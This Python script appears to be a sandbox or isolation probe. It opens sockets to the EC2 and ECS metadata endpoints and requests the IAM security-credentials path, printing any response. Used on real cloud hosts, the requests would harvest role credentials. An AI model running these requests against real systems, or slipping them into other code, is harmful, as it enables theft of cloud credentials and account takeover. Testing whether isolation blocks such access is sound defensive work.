import socket

from attack import attempt


def ask(family, address):
    with socket.socket(family) as service:
        service.settimeout(2)
        service.connect(address)
        service.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")
        while piece := service.recv(4096):
            print(piece)


attempt("EC2", lambda: ask(socket.AF_INET, ("169.254.169.254", 80)))
attempt("ECS", lambda: ask(socket.AF_INET, ("169.254.170.2", 80)))
attempt("EC2 6", lambda: ask(socket.AF_INET6, ("fd00:ec2::254", 80)))
